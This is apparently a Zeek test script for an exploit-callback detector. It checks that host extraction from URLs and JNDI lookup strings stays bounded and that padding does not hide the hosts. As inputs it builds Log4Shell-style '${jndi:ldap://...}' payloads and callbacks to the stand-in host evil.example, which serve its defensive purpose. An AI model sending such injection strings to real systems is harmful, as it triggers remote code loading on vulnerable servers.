# @TEST-DOC: What a request costs does not grow with the hosts that it names; padding hides none of them.
#
# @TEST-GROUP: zkg
# @TEST-EXEC: zeek -C -r $TRACES/demo.pcap %INPUT >output
# @TEST-EXEC: btest-diff output
# @TEST-EXEC: if test -e weird.log; then ! grep find_all weird.log; fi

@load zeek-k8s/detect/exploit_callback

module Exploit_Callback;

function many(n: count, prefix: string): string
	{
	local names: vector of string;

	while ( |names| < n )
		names += fmt("host-%d.example", |names|);

	return prefix + join_string_vec(names, ",") + "}";
	}

event zeek_init()
	{
	local padding = string_fill(12000, "a=b&");
	print |url_hosts(many(500, "/?to=http://"), T)|;
	print |jndi_hosts(many(500, "${jndi:ldap://"))|;
	print |url_hosts("http://" + string_fill(300, "abc") + "/", F)|;
	print url_hosts("/?" + padding + "to=http://evil.example/", F);
	print jndi_hosts("/?" + padding + "to=${jndi:ldap://evil.example/a}");
	}

event new_connection(c: connection)
	{
	if ( |clues| == 0 )
		examine(c, many(500, "/?to=http://"), "URI", T);
	}

event zeek_done()
	{
	local longest = 0;

	for ( [server, host], clue in clues )
		if ( |clue$evidence| > longest )
			longest = |clue$evidence|;

	print |clues|, longest < 300;
	}
